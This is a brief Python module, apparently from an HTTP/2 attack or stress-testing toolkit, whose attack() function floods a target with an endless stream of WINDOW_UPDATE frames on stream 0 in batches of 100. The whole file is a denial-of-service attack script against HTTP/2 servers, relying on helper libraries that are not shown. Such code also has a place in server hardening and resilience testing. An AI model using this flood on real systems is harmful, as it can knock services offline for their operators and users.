# SPDX-License-Identifier: Apache-2.0
"""WINDOW_UPDATE without end."""
import itertools

from lib.http2 import WINDOW_UPDATE, frame


def attack(target):
    return target.flood(lambda: itertools.repeat(frame(WINDOW_UPDATE, 0, 0, bytes((0, 0, 0, 1))) * 100))
